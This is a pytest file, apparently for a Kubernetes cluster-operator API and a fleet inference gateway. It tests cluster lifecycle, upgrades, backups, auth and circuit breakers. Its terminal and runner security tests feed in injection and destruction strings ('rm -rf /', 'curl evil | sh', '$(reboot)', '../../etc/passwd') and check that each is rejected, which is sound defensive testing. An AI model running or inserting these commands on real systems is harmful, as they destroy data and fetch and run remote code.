    assert engine.wait(out["task_id"], timeout=60)
    _, c = client.req("GET", "/api/v1/clusters/c3", expect=200)
    gone = [n for n in c["nodes"] if n["name"] == "worker-9"]
    assert gone and gone[0]["status"] == "Terminated"


def test_upgrade_flow_and_version_gate(app):
    client, runner, db, engine = app
    host_ids = _setup_hosts(client, 2)
    out = _create_cluster(client, host_ids, name="c4")
    assert engine.wait(out["task_id"], timeout=60)
    client.req("GET", "/api/v1/manifests", expect=200)  # seeds defaults

    status, out2 = client.req("POST", "/api/v1/clusters/c4/upgrade",
                              {"version": "v9.99.0"})
    assert status == 400  # no manifest for that version

    _, out3 = client.req("POST", "/api/v1/clusters/c4/upgrade",
                         {"version": "v1.29.4"}, expect=202)
    assert engine.wait(out3["task_id"], timeout=60)
    played = [inv.playbook for inv in runner.invocations]
    assert "upgrade-masters" in played and "upgrade-workers" in played
    _, c = client.req("GET", "/api/v1/clusters/c4", expect=200)
    assert c["spec"]["version"] == "v1.29.4"


def test_backup_and_restore(app):
    client, runner, db, engine = app
    host_ids = _setup_hosts(client, 2)
    out = _create_cluster(client, host_ids, name="c5")
    assert engine.wait(out["task_id"], timeout=60)

    _, acct = client.req("POST", "/api/v1/backupaccounts",
                         {"name": "s3-main", "bucket": "ko-backups"}, expect=201)
    _, out = client.req("POST", "/api/v1/clusters/c5/backups",
                        {"backup_account_id": acct["id"]}, expect=202)
    assert engine.wait(out["task_id"], timeout=60)
    _, backups = client.req("GET", "/api/v1/clusters/c5/backups", expect=200)
    assert len(backups["items"]) == 1
    played = [inv.playbook for inv in runner.invocations]
    assert "velero-backup" in played and "etcd-snapshot" in played

    _, out = client.req("POST", "/api/v1/clusters/c5/restore",
                        {"backup_id": backups["items"][0]["id"]}, expect=202)
    assert engine.wait(out["task_id"], timeout=60)
    assert "velero-restore" in [inv.playbook for inv in runner.invocations]


def test_launch_app_template(app):
    client, runner, db, engine = app
    host_ids = _setup_hosts(client, 2)
    out = _create_cluster(client, host_ids, name="c6",
                          spec={"neuron": True, "efa": True})
    assert engine.wait(out["task_id"], timeout=60)

    _, tpls = client.req("GET", "/api/v1/apps/templates", expect=200)
    names = [t["name"] for t in tpls["items"]]
    assert "llama3-8b-pretrain" in names and "llama3-8b-longctx" in names

    _, out = client.req("POST", "/api/v1/clusters/c6/apps",
                        {"template": "llama3-8b-pretrain",
                         "overrides": {"nodes": 16}}, expect=202)
    assert engine.wait(out["task_id"], timeout=60)
    manifest = out["app"]["manifest"]
    assert manifest["spec"]["completions"] == 16
    res = manifest["spec"]["template"]["spec"]["containers"][0]["resources"]
    assert res["requests"]["aws.amazon.com/neuron"] == 16
    assert res["requests"]["vpc.amazonaws.com/efa"] == 16
    assert manifest["spec"]["template"]["spec"]["schedulerName"] == "ko-neuron-scheduler"
    # mesh plan covers nodes*16 devices
    plan = manifest["ko"]["mesh_plan"]
    assert plan["dp"] * plan["fsdp"] * plan["sp"] * plan["tp"] == 16 * 16


def test_cluster_health_endpoint(app):
    client, runner, db, engine = app
    host_ids = _setup_hosts(client, 2)
    out = _create_cluster(client, host_ids, name="c7")
    assert engine.wait(out["task_id"], timeout=60)
    _, health = client.req("GET", "/api/v1/clusters/c7/health", expect=200)
    names = [c["name"] for c in health["checks"]]
    assert "nodes-ready" in names


def test_incremental_log_polling(app):
    client, runner, db, engine = app
    host_ids = _setup_hosts(client, 2)
    out = _create_cluster(client, host_ids, name="c8")
    task_id = out["task_id"]
    assert engine.wait(task_id, timeout=60)
    _, all_logs = client.req("GET", f"/api/v1/tasks/{task_id}/logs", expect=200)
    assert len(all_logs["items"]) > 2
    cursor = all_logs["items"][2]["id"]
    _, rest = client.req("GET", f"/api/v1/tasks/{task_id}/logs?after={cursor}",
                         expect=200)
    assert len(rest["items"]) == len(all_logs["items"]) - 3
    assert all(l["id"] > cursor for l in rest["items"])


def test_dedicated_etcd_role_grouping(app):
    client, runner, db, engine = app
    host_ids = _setup_hosts(client, 3)
    nodes = [
        {"name": "m0", "host_id": host_ids[0], "role": "master"},
        {"name": "e0", "host_id": host_ids[1], "role": "etcd"},
        {"name": "w0", "host_id": host_ids[2], "role": "worker"},
    ]
    _, out = client.req("POST", "/api/v1/clusters",
                        {"name": "c9", "nodes": nodes}, expect=202)
    assert engine.wait(out["task_id"], timeout=60)
    inv = runner.invocations[0].inventory
    ch = inv["all"]["children"]
    assert set(ch["etcd"]["hosts"]) == {"e0"}
    assert set(ch["kube_control_plane"]["hosts"]) == {"m0"}
    assert set(ch["kube_node"]["hosts"]) == {"w0"}


def test_auto_provision_creates_distinct_hosts(app):
    """EC2 auto mode: nodes without host_id get distinct host rows."""
    client, runner, db, engine = app
    nodes = [
        {"name": "m0", "role": "master"},
        {"name": "w0", "role": "worker"},
        {"name": "w1", "role": "worker"},
    ]
    _, out = client.req("POST", "/api/v1/clusters",
                        {"name": "auto1", "spec": {"provider": "ec2", "neuron": True},
                         "nodes": nodes}, expect=202)
    assert engine.wait(out["task_id"], timeout=60)
    hosts = db.list("hosts")
    ips = {h["ip"] for h in hosts}
    assert len(hosts) == 3 and len(ips) == 3
    inv = runner.invocations[0].inventory
    assert len(inv["all"]["hosts"]) == 3
    addrs = {v["ansible_host"] for v in inv["all"]["hosts"].values()}
    assert len(addrs) == 3


def test_unknown_spec_key_is_400_not_connection_reset(app):
    client, *_ = app
    status, out = client.req("POST", "/api/v1/clusters",
                             {"name": "bad", "spec": {"verion": "x"},
                              "nodes": [{"name": "m0", "role": "master"}]})
    assert status == 400
    assert "error" in out


def test_concurrent_cluster_creates_no_deadlock(app):
    """Race/concurrency posture (SURVEY §5.2): parallel lifecycle ops
    through the threaded server + engine complete without deadlock."""
    import threading

    client, runner, db, engine = app
    host_ids = _setup_hosts(client, 6)
    task_ids = []
    lock = threading.Lock()

    def create(i):
        out = _create_cluster(client, host_ids[i * 2:i * 2 + 2], name=f"par{i}")
        with lock:
            task_ids.append(out["task_id"])

    threads = [threading.Thread(target=create, args=(i,)) for i in range(3)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=60)
    assert len(task_ids) == 3
    for tid in task_ids:
        assert engine.wait(tid, timeout=60)
        _, task = client.req("GET", f"/api/v1/tasks/{tid}", expect=200)
        assert task["status"] == "Success"
    for i in range(3):
        _, c = client.req("GET", f"/api/v1/clusters/par{i}", expect=200)
        assert c["status"] == "Running"


def test_task_timings_endpoint(app):
    client, runner, db, engine = app
    host_ids = _setup_hosts(client, 2)
    out = _create_cluster(client, host_ids, name="ct")
    assert engine.wait(out["task_id"], timeout=60)
    _, t = client.req("GET", f"/api/v1/tasks/{out['task_id']}/timings", expect=200)
    assert t["total_wall_s"] is not None and t["total_wall_s"] >= 0
    assert all(p["wall_s"] is not None for p in t["phases"])
    assert t["phases"][0]["name"] == "precheck"


def test_web_terminal_exec_flow(app):
    import time as _time

    client, runner, db, engine = app
    host_ids = _setup_hosts(client, 2)
    out = _create_cluster(client, host_ids, name="term1")
    assert engine.wait(out["task_id"], timeout=60)

    # disallowed command rejected
    status, res = client.req("POST", "/api/v1/clusters/term1/exec",
                             {"command": "rm -rf /"})
    assert status == 400

    _, res = client.req("POST", "/api/v1/clusters/term1/exec",
                        {"command": "kubectl get nodes"}, expect=202)
    sid = res["sid"]
    for _ in range(50):
        _, snap = client.req("GET", f"/api/v1/exec/{sid}", expect=200)
        if snap["done"]:
            break
        _time.sleep(0.05)
    assert snap["done"] and snap["rc"] == 0
    assert any("kubectl get nodes" in l for l in snap["lines"])
    # incremental polling
    _, snap2 = client.req("GET", f"/api/v1/exec/{sid}?after={snap['next']}",
                          expect=200)
    assert snap2["lines"] == []

    status, _ = client.req("GET", "/api/v1/exec/nope")
    assert status == 404


def test_ippool_crud(app):
    client, *_ = app
    _, pool = client.req("POST", "/api/v1/ippools",
                         {"name": "pool1", "subnet": "10.5.0.0/24",
                          "start": "10.5.0.10", "end": "10.5.0.250"}, expect=201)
    _, pools = client.req("GET", "/api/v1/ippools", expect=200)
    assert len(pools["items"]) == 1
    client.req("DELETE", f"/api/v1/ippools/{pool['id']}", expect=200)


def test_runner_exception_fails_task_cleanly(app):
    """Fault injection (SURVEY §5.3): a runner that *raises* (not just
    returns rc!=0) must fail the task, not hang or kill the worker."""
    client, runner, db, engine = app
    runner.script["etcd"] = [RuntimeError("ssh connection lost mid-play")]
    host_ids = _setup_hosts(client, 2)
    out = _create_cluster(client, host_ids, name="crash1")
    assert engine.wait(out["task_id"], timeout=60)
    _, task = client.req("GET", f"/api/v1/tasks/{out['task_id']}", expect=200)
    assert task["status"] == "Failed"
    _, logs = client.req("GET", f"/api/v1/tasks/{out['task_id']}/logs", expect=200)
    assert any("ssh connection lost" in l["line"] for l in logs["items"])
    # the engine worker survives: a retry still executes
    client.req("POST", f"/api/v1/tasks/{out['task_id']}/retry", expect=202)
    assert engine.wait(out["task_id"], timeout=60)
    _, task = client.req("GET", f"/api/v1/tasks/{out['task_id']}", expect=200)
    assert task["status"] == "Success"


def test_terminal_rejects_shell_injection(app):
    """The allowlist constrains execution, not just the string prefix:
    chained/injected commands and near-miss binaries are 400s."""
    client, runner, db, engine = app
    host_ids = _setup_hosts(client, 2)
    out = _create_cluster(client, host_ids, name="sec1")
    assert engine.wait(out["task_id"], timeout=60)
    for cmd in [
        "kubectl get pods; rm -rf /",
        "kubectl get pods && curl evil | sh",
        "kubectl get pods $(reboot)",
        "kubectl get pods `reboot`",
        "kubectlanything",
        "helm; reboot",
        "sh -c 'kubectl get pods'",
        "",
    ]:
        status, res = client.req("POST", "/api/v1/clusters/sec1/exec",
                                 {"command": cmd})
        assert status == 400, (cmd, status, res)


def test_passwords_hashed_and_tokens_expire(app):
    client, runner, db, engine = app
    # users table holds a salted scrypt hash, never the plaintext
    admin = db.get_by_name("users", "admin")
    assert "password" not in admin
    assert admin["password_hash"].startswith("scrypt$")
    assert "admin123" not in json.dumps(admin)

    status, _ = client.req("POST", "/api/v1/auth/login",
                           {"username": "admin", "password": "wrong"})
    assert status == 401

    # a second session: expiry is enforced per-request
    c2 = Client(int(client.base.rsplit(":", 1)[1]))
    c2.api = client.api
    c2.login()
    c2.req("GET", "/api/v1/clusters", expect=200)
    c2.api.tokens[c2.token]["expires_at"] = 0.0
    status, res = c2.req("GET", "/api/v1/clusters")
    assert status == 401 and "expired" in res["error"]
    assert c2.token not in c2.api.tokens  # dropped on rejection

    # logout invalidates the presented token immediately
    c2.login()
    c2.req("GET", "/api/v1/clusters", expect=200)
    c2.req("POST", "/api/v1/auth/logout", expect=200)
    status, _ = c2.req("GET", "/api/v1/clusters")
    assert status == 401


def test_project_scoped_listing(app):
    client, runner, db, engine = app
    _, p1 = client.req("POST", "/api/v1/projects", {"name": "team-a"}, expect=201)
    _, p2 = client.req("POST", "/api/v1/projects", {"name": "team-b"}, expect=201)
    host_ids = _setup_hosts(client, 2)
    # clusters in different projects
    _, c1 = client.req("POST", "/api/v1/clusters", {
        "name": "pa", "project_id": "team-a",
        "nodes": [{"name": "pa-m0", "host_id": host_ids[0], "role": "master"}],
    }, expect=202)
    _, c2 = client.req("POST", "/api/v1/clusters", {
        "name": "pb", "project_id": p2["id"],
        "nodes": [{"name": "pb-m0", "host_id": host_ids[1], "role": "master"}],
    }, expect=202)
    _, all_cl = client.req("GET", "/api/v1/clusters", expect=200)
    assert len(all_cl["items"]) == 2
    _, only_a = client.req("GET", "/api/v1/clusters?project=team-a", expect=200)
    assert [c["name"] for c in only_a["items"]] == ["pa"]
    # name ref resolved to id on create
    assert only_a["items"][0]["project_id"] == p1["id"]
    _, only_b = client.req("GET", f"/api/v1/clusters?project={p2['id']}", expect=200)
    assert [c["name"] for c in only_b["items"]] == ["pb"]
    status, _ = client.req("GET", "/api/v1/clusters?project=ghost")
    assert status == 404
    # hosts scope too
    _, h = client.req("POST", "/api/v1/hosts",
                      {"name": "scoped", "ip": "10.2.0.9",
                       "project_id": p1["id"]}, expect=201)
    _, hosts_a = client.req("GET", "/api/v1/clusters?project=team-a", expect=200)
    _, scoped = client.req("GET", "/api/v1/hosts?project=team-a", expect=200)
    assert [x["name"] for x in scoped["items"]] == ["scoped"]
    status, _ = client.req("POST", "/api/v1/clusters", {
        "name": "px", "project_id": "nope",
        "nodes": [{"name": "x-m0", "role": "master"}]})
    assert status == 404


def test_remote_runner_service_end_to_end():
    """kobe process boundary: task engine -> RemoteRunner (HTTP client)
    -> RunnerService wrapping a rendering LocalPlaybookRunner; a create
    flow streams remote logs into the task log."""
    from kubeoperator_trn.cluster.runner import LocalPlaybookRunner, RemoteRunner
    from kubeoperator_trn.cluster import runner_service as rs
    from kubeoperator_trn.server import PLAYBOOK_DIR, build_app

    svc = rs.RunnerService(LocalPlaybookRunner(PLAYBOOK_DIR, dry_run=True))
    rsrv, rthread = rs.make_server(svc)
    rthread.start()
    base = f"http://127.0.0.1:{rsrv.server_address[1]}"

    api, engine, db = build_app(
        runner=RemoteRunner(base, poll_interval_s=0.05),
        admin_password="pw")
    server, thread = make_server(api)
    thread.start()
    client = Client(server.server_address[1])
    _, out = client.req("POST", "/api/v1/auth/login",
                        {"username": "admin", "password": "pw"}, expect=200)
    client.token = out["token"]
    try:
        host_ids = _setup_hosts(client, 1)
        out = _create_cluster(client, host_ids, name="remote1")
        assert engine.wait(out["task_id"], timeout=120)
        _, task = client.req("GET", f"/api/v1/tasks/{out['task_id']}", expect=200)
        assert task["status"] == "Success", task
        _, logs = client.req("GET", f"/api/v1/tasks/{out['task_id']}/logs",
                             expect=200)
        lines = [l["line"] for l in logs["items"]]
        assert any("would run:" in l for l in lines)  # remote render ran
        assert not any("{{" in l for l in lines)
    finally:
        engine.shutdown()
        server.shutdown()
        rsrv.shutdown()


def test_remote_runner_crash_is_failed_phase():
    from kubeoperator_trn.cluster.runner import RemoteRunner
    from kubeoperator_trn.cluster import runner_service as rs

    class Exploding:
        def run(self, *a, **kw):
            raise RuntimeError("runner exploded")

    svc = rs.RunnerService(Exploding())
    rsrv, rthread = rs.make_server(svc)
    rthread.start()
    base = f"http://127.0.0.1:{rsrv.server_address[1]}"
    lines = []
    res = RemoteRunner(base, poll_interval_s=0.05).run(
        "precheck", {}, {}, lines.append)
    rsrv.shutdown()
    assert not res.ok and res.rc == -1
    assert any("runner exploded" in l for l in lines)


def test_runner_service_security_and_idempotency():
    from kubeoperator_trn.cluster.runner import FakeRunner, RemoteRunner
    from kubeoperator_trn.cluster import runner_service as rs
    import urllib.error
    import urllib.request

    svc = rs.RunnerService(FakeRunner(delay_s=0.3), token="s3cret")
    rsrv, rthread = rs.make_server(svc)
    rthread.start()
    base = f"http://127.0.0.1:{rsrv.server_address[1]}"

    # no token -> 401
    try:
        urllib.request.urlopen(urllib.request.Request(
            base + "/run", data=b'{"playbook":"precheck"}', method="POST"))
        raise AssertionError("expected 401")
    except urllib.error.HTTPError as e:
        assert e.code == 401

    # path traversal rejected
    client = RemoteRunner(base, token="s3cret", poll_interval_s=0.05)
    try:
        client._req("POST", "/run", {"playbook": "../../etc/passwd"})
        raise AssertionError("expected 400")
    except urllib.error.HTTPError as e:
        assert e.code == 400

    # identical in-flight runs reattach (no duplicate execution)
    a = client._req("POST", "/run", {"playbook": "precheck",
                                     "inventory": {"all": {}}})
    b = client._req("POST", "/run", {"playbook": "precheck",
                                     "inventory": {"all": {}}})
    assert a["run_id"] == b["run_id"]
    # a different playbook is a different run
    c = client._req("POST", "/run", {"playbook": "etcd",
                                     "inventory": {"all": {}}})
    assert c["run_id"] != a["run_id"]
    rsrv.shutdown()


def test_upgrade_version_skew_gate(app):
    """kubeadm skew rules: one minor at a time, no downgrades — gated
    at the API, not discovered mid-playbook."""
    client, runner, db, engine = app
    host_ids = _setup_hosts(client, 1)
    out = _create_cluster(client, host_ids, name="skew1")
    assert engine.wait(out["task_id"], timeout=60)
    # seed an extra manifest two minors ahead + one behind
    for v in ("v1.30.0", "v1.27.9"):
        doc = {"id": f"m-{v}", "name": f"{v}-test", "k8s_version": v,
               "components": {}, "neuron": {}}
        db.put("manifests", doc["id"], doc)
    status, res = client.req("POST", "/api/v1/clusters/skew1/upgrade",
                             {"version": "v1.30.0"})
    assert status == 400 and "skew" in res["error"], res
    status, res = client.req("POST", "/api/v1/clusters/skew1/upgrade",
                             {"version": "v1.27.9"})
    assert status == 400 and "skew" in res["error"], res
    # +1 minor passes
    _, ok = client.req("POST", "/api/v1/clusters/skew1/upgrade",
                       {"version": "v1.29.4"}, expect=202)
    assert engine.wait(ok["task_id"], timeout=60)


def test_upgrade_rejects_patch_downgrade(app):
    client, runner, db, engine = app
    host_ids = _setup_hosts(client, 1)
    out = _create_cluster(client, host_ids, name="pd1")
    assert engine.wait(out["task_id"], timeout=60)
    doc = {"id": "m-v1.28.2", "name": "v1.28.2-t", "k8s_version": "v1.28.2",
           "components": {}, "neuron": {}}
    db.put("manifests", doc["id"], doc)
    status, res = client.req("POST", "/api/v1/clusters/pd1/upgrade",
                             {"version": "v1.28.2"})
    assert status == 400 and "skew" in res["error"], res


def test_delete_does_not_wipe_rebound_host(app):
    """ADVICE r3: a host scaled-in from cluster A and later bound to
    cluster B must keep B's binding when A is deleted."""
    client, runner, db, engine = app
    host_ids = _setup_hosts(client, 3)
    out = _create_cluster(client, host_ids[:2], name="a")
    assert engine.wait(out["task_id"], timeout=60)
    # scale-in a's worker -> its host is released
    _, c = client.req("GET", "/api/v1/clusters/a", expect=200)
    worker = next(n for n in c["nodes"] if n["role"] == "worker")
    _, out = client.req("POST", "/api/v1/clusters/a/nodes",
                        {"remove": [worker["name"]]}, expect=202)
    assert engine.wait(out["task_id"], timeout=60)
    assert db.get("hosts", worker["host_id"])["cluster_id"] == ""
    # bind the released host to a new cluster b
    _, out = client.req("POST", "/api/v1/clusters", {
        "name": "b",
        "nodes": [{"name": "b-m0", "host_id": worker["host_id"],
                   "role": "master"}]}, expect=202)
    b_id = out["cluster"]["id"]
    assert engine.wait(out["task_id"], timeout=60)
    assert db.get("hosts", worker["host_id"])["cluster_id"] == b_id
    # deleting a (whose node list still contains the terminated worker)
    # must not clear b's binding
    _, out = client.req("DELETE", "/api/v1/clusters/a", expect=202)
    assert engine.wait(out["task_id"], timeout=60)
    assert db.get("hosts", worker["host_id"])["cluster_id"] == b_id


def test_create_rolls_back_claim_on_provisioner_failure(app):
    """ADVICE r4: a provisioner failure during create must not leave a
    half-created cluster row holding its hosts — the claim is released,
    the row removed, and the error surfaced (not a 500)."""
    client, runner, db, engine = app
    host_ids = _setup_hosts(client, n=1)

    class ExplodingProvisioner:
        destroyed = False

        def apply(self, cluster):
            raise RuntimeError("ec2 capacity exhausted in usw2-az4")

        def destroy(self, cluster):
            # apply() may have launched instances before failing — the
            # rollback must reap them before the row disappears
            self.destroyed = True

    exploding = ExplodingProvisioner()
    client.api.service.provisioner = exploding
    status, out = client.req("POST", "/api/v1/clusters", {
        "name": "doomed",
        "spec": {"provider": "ec2", "instance_type": "trn2.48xlarge"},
        "nodes": [{"name": "doomed-m0", "host_id": host_ids[0],
                   "role": "master"}]})
    assert status == 502, out
    assert "capacity exhausted" in json.dumps(out)
    assert exploding.destroyed  # partial instances reaped
    # row rolled back, host released
    client.req("GET", "/api/v1/clusters/doomed", expect=404)
    assert db.get("hosts", host_ids[0])["cluster_id"] == ""
    # the host is immediately claimable by a healthy create
    client.api.service.provisioner = None
    _, out = client.req("POST", "/api/v1/clusters", {
        "name": "healthy",
        "nodes": [{"name": "h-m0", "host_id": host_ids[0],
                   "role": "master"}]}, expect=202)
    assert engine.wait(out["task_id"], timeout=60)


def test_create_rolls_back_claim_on_api_error(app):
    """The ApiError path out of service.create() must roll back exactly
    like a provisioner crash — but re-raise with the ORIGINAL status
    instead of wrapping it in a 502."""
    from kubeoperator_trn.cluster.api import ApiError

    client, runner, db, engine = app
    host_ids = _setup_hosts(client, n=1)

    class QuotaProvisioner:
        destroyed = False

        def apply(self, cluster):
            raise ApiError(409, "instance quota exceeded for trn2.48xlarge")

        def destroy(self, cluster):
            self.destroyed = True

    quota = QuotaProvisioner()
    client.api.service.provisioner = quota
    status, out = client.req("POST", "/api/v1/clusters", {
        "name": "quota-doomed",
        "spec": {"provider": "ec2", "instance_type": "trn2.48xlarge"},
        "nodes": [{"name": "q-m0", "host_id": host_ids[0],
                   "role": "master"}]})
    assert status == 409, out  # original status, not a wrapped 502
    assert "quota exceeded" in json.dumps(out)
    assert quota.destroyed
    client.req("GET", "/api/v1/clusters/quota-doomed", expect=404)
    assert db.get("hosts", host_ids[0])["cluster_id"] == ""
    # the host is immediately claimable again
    client.api.service.provisioner = None
    _, out = client.req("POST", "/api/v1/clusters", {
        "name": "healthy2",
        "nodes": [{"name": "h2-m0", "host_id": host_ids[0],
                   "role": "master"}]}, expect=202)
    assert engine.wait(out["task_id"], timeout=60)


def test_cancel_running_task_stops_at_phase_boundary(app):
    import threading

    client, runner, db, engine = app
    started, release = threading.Event(), threading.Event()
    orig_run = runner.run

    def run(playbook, inventory, extra_vars, log):
        if playbook == "cni":
            started.set()
            release.wait(timeout=30)
        return orig_run(playbook, inventory, extra_vars, log)

    runner.run = run
    host_ids = _setup_hosts(client, 2)
    out = _create_cluster(client, host_ids, name="c-cancel")
    task_id = out["task_id"]
    assert started.wait(timeout=30)  # engine is inside the cni phase

    # cancel lands in the store while the worker runs; honored at the
    # next phase boundary (the wedged-bring-up scenario)
    _, t = client.req("POST", f"/api/v1/tasks/{task_id}/cancel", expect=202)
    assert t["status"] == "Cancelled"
    release.set()
    assert engine.wait(task_id, timeout=60)

    _, task = client.req("GET", f"/api/v1/tasks/{task_id}", expect=200)
    assert task["status"] == "Cancelled"
    # no phase after cni ever executed
    played = [inv.playbook for inv in runner.invocations]
    assert played[-1] == "cni", played
    # phases past the boundary stay Pending (resumable via retry is NOT
    # offered: retry requires Failed — cancel is terminal)
    assert any(p["status"] == "Pending" for p in task["phases"])
    _, c = client.req("GET", "/api/v1/clusters/c-cancel", expect=200)
    assert c["status"] == "Failed"
    assert "cancel" in c["message"].lower()

    # terminal tasks are not cancellable
    client.req("POST", f"/api/v1/tasks/{task_id}/cancel", expect=409)


def test_cancel_pending_task_never_starts(app):
    import threading

    client, runner, db, engine = app
    host_ids = _setup_hosts(client, 2)
    # Gate the runner so the task cannot finish before the cancel lands:
    # whichever side of the worker's pickup the flip falls on, either
    # the pre-check or the next phase-boundary check must see it.
    gate = threading.Event()
    real_run = runner.run

    def gated_run(*args, **kwargs):
        gate.wait(timeout=60)
        return real_run(*args, **kwargs)

    runner.run = gated_run
    try:
        out = _create_cluster(client, host_ids, name="c-precancel")
        task_id = out["task_id"]
        # flip to Cancelled directly (simulates cancel winning the race)
        t = db.get("tasks", task_id)
        t["status"] = "Cancelled"
        db.put("tasks", task_id, t)
        gate.set()
        engine.wait(task_id, timeout=60)
    finally:
        gate.set()
        runner.run = real_run
    _, task = client.req("GET", f"/api/v1/tasks/{task_id}", expect=200)
    assert task["status"] == "Cancelled"
