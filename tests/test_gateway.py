"""Fleet gateway tests (ISSUE 11 tentpole): per-replica circuit-breaker
state machine (majority rule, rolling window, single half-open probe),
slow-start weighting, least-loaded routing with session affinity and
deliberate probe routing, bounded retries with the retriable-vs-terminal
taxonomy, load shedding (all-breakers-open and aggregate-queue paths,
both with Retry-After), collector-registry membership sync, and one
small end-to-end HTTP pass (trace propagation + X-KO-Replica + drain
exclusion).  Everything time-dependent runs on a fake clock; upstream
I/O goes through the ``Gateway._send`` seam."""

import json

import pytest

from kubeoperator_trn.infer.gateway import (
    BREAKER_CLOSED, BREAKER_HALF_OPEN, BREAKER_OPEN, CircuitBreaker,
    Gateway, GatewayConfig, Replica, make_gateway_server)
from kubeoperator_trn.telemetry import MetricsRegistry


class Clock:
    def __init__(self, t=1000.0):
        self.t = t

    def __call__(self):
        return self.t

    def tick(self, dt):
        self.t += dt
        return self.t


def make_gw(clk=None, **cfg):
    cfg.setdefault("backoff_ms", 0.0)
    cfg.setdefault("hedge_ms", 0.0)
    cfg.setdefault("targets_url", "")
    cfg.setdefault("static_replicas", [])
    clk = clk or Clock()
    gw = Gateway(GatewayConfig(**cfg), registry=MetricsRegistry(),
                 now_fn=clk)
    return gw, clk


# -- circuit breaker ----------------------------------------------------

def test_breaker_opens_on_failure_majority():
    clk = Clock()
    moves = []
    b = CircuitBreaker(window_s=10, fails=3, cooldown_s=5, now_fn=clk,
                       on_transition=lambda o, n: moves.append((o, n)))
    b.record(False)
    b.record(False)
    assert b.state == BREAKER_CLOSED, "below the failure floor"
    b.record(False)
    assert b.state == BREAKER_OPEN and moves == [("closed", "open")]
    assert not b.allow() and not b.acquire()


def test_breaker_failures_without_majority_stay_closed():
    clk = Clock()
    b = CircuitBreaker(window_s=10, fails=3, cooldown_s=5, now_fn=clk)
    for _ in range(4):
        b.record(True)
    for _ in range(3):
        b.record(False)
    # 3 failures >= fails, but 3/7 is not a majority: one slow replica
    # in a mostly-healthy window must not trip
    assert b.state == BREAKER_CLOSED


def test_breaker_window_expiry_forgives_old_failures():
    clk = Clock()
    b = CircuitBreaker(window_s=10, fails=3, cooldown_s=5, now_fn=clk)
    b.record(False)
    b.record(False)
    clk.tick(11)            # both age out of the rolling window
    b.record(False)
    assert b.state == BREAKER_CLOSED


def test_breaker_half_open_single_probe_then_close():
    clk = Clock()
    moves = []
    b = CircuitBreaker(window_s=10, fails=1, cooldown_s=5, now_fn=clk,
                       on_transition=lambda o, n: moves.append(n))
    b.record(False)
    assert b.state == BREAKER_OPEN
    clk.tick(4.9)
    assert not b.allow(), "cooldown not elapsed"
    clk.tick(0.2)
    assert b.allow() and b.state == BREAKER_HALF_OPEN
    assert b.allow(), "allow() is non-consuming (scoring-safe)"
    assert b.acquire(), "first acquire claims the probe slot"
    assert not b.acquire(), "exactly one concurrent probe"
    assert not b.allow(), "probe inflight: not routable for new picks"
    b.record(True)
    assert b.state == BREAKER_CLOSED
    assert moves == ["open", "half_open", "closed"]
    # the pre-open window was cleared: one new failure re-opens only
    # because fails=1 here, not because of stale outcomes
    assert len(b._outcomes) == 0


def test_breaker_probe_failure_reopens_with_fresh_cooldown():
    clk = Clock()
    b = CircuitBreaker(window_s=10, fails=1, cooldown_s=5, now_fn=clk)
    b.record(False)
    clk.tick(5)
    assert b.allow() and b.acquire()
    b.record(False)
    assert b.state == BREAKER_OPEN
    clk.tick(4)
    assert not b.allow(), "re-open restarted the cooldown"
    clk.tick(1.1)
    assert b.allow() and b.state == BREAKER_HALF_OPEN


# -- replica scoring ----------------------------------------------------

def test_slow_start_weight_ramps_to_full():
    clk = Clock()
    r = Replica("r", "http://x", CircuitBreaker(now_fn=clk), now_fn=clk)
    assert r.weight(10.0) == pytest.approx(0.1)
    clk.tick(5)
    assert r.weight(10.0) == pytest.approx(0.55)
    clk.tick(20)
    assert r.weight(10.0) == 1.0
    assert r.weight(0.0) == 1.0, "slow-start disabled"


def test_score_prefers_idle_fast_replicas():
    clk = Clock()
    idle = Replica("idle", "http://a", CircuitBreaker(now_fn=clk),
                   now_fn=clk)
    busy = Replica("busy", "http://b", CircuitBreaker(now_fn=clk),
                   now_fn=clk)
    clk.tick(100)           # both fully warmed
    busy.stats = {"queue_depth": 4, "active_slots": 6}
    assert idle.score(10.0) < busy.score(10.0)
    slow = Replica("slow", "http://c", CircuitBreaker(now_fn=clk),
                   now_fn=clk)
    slow.joined_at = idle.joined_at
    slow.observe_latency(2.0)
    assert idle.score(10.0) < slow.score(10.0)


# -- pick ---------------------------------------------------------------

def test_pick_least_loaded_then_affinity_sticks():
    gw, clk = make_gw(slow_start_s=0.0)
    a = gw.add_replica("a", "http://a")
    b = gw.add_replica("b", "http://b")
    a.stats = {"queue_depth": 9}
    assert gw.pick().name == "b"
    # a session that lands on b stays on b even after load shifts
    assert gw.pick(session="s1").name == "b"
    a.stats = {}
    b.stats = {"queue_depth": 9}
    assert gw.pick().name == "a"
    assert gw.pick(session="s1").name == "b", "affinity wins while eligible"
    # pinned replica becomes ineligible -> re-pinned to a live one
    b.draining = True
    assert gw.pick(session="s1").name == "a"


def test_pick_routes_the_half_open_probe_deliberately():
    gw, clk = make_gw(slow_start_s=0.0, breaker_fails=1,
                      breaker_cooldown_s=5.0)
    a = gw.add_replica("a", "http://a")
    gw.add_replica("b", "http://b")
    a.breaker.record(False)
    assert gw.pick().name == "b", "open breaker is not routable"
    clk.tick(5.5)
    # a is promotable to half-open: the probe must be routed even though
    # a fully-idle b would win every score comparison
    assert gw.pick().name == "a"
    assert a.breaker.state == BREAKER_HALF_OPEN


# -- prefix-key affinity (ISSUE 13) -------------------------------------

def test_prefix_session_key_derivation():
    gw, _ = make_gw(prefix_key_tokens=8)
    body = json.dumps({"prompt_ids": [[1, 2, 3, 4, 5, 6, 7, 8, 9]]}).encode()
    key = gw._prefix_session(body)
    assert key is not None and key.startswith("prefix:")
    # same head, different tail -> same key (cache-sharing traffic sticks)
    same_head = {"prompt_ids": [[1, 2, 3, 4, 5, 6, 7, 8, 99, 100]]}
    assert gw._prefix_session(json.dumps(same_head).encode()) == key
    diff_head = {"prompt_ids": [[2, 2, 3, 4, 5, 6, 7, 8, 9]]}
    assert gw._prefix_session(json.dumps(diff_head).encode()) != key
    # prompts shorter than the key get NO affinity, not a shared bucket
    short = {"prompt_ids": [[1, 2, 3]]}
    assert gw._prefix_session(json.dumps(short).encode()) is None
    assert gw._prefix_session(b"not json") is None
    assert gw._prefix_session(b"{}") is None
    gw_off, _ = make_gw()      # KO_GW_PREFIX_KEY_TOKENS defaults to 0
    assert gw_off._prefix_session(body) is None


def test_prefix_affinity_routes_same_prefix_to_one_replica():
    gw, clk = make_gw(prefix_key_tokens=4, retries=0, slow_start_s=0.0)
    gw.add_replica("a", "http://a")
    gw.add_replica("b", "http://b")
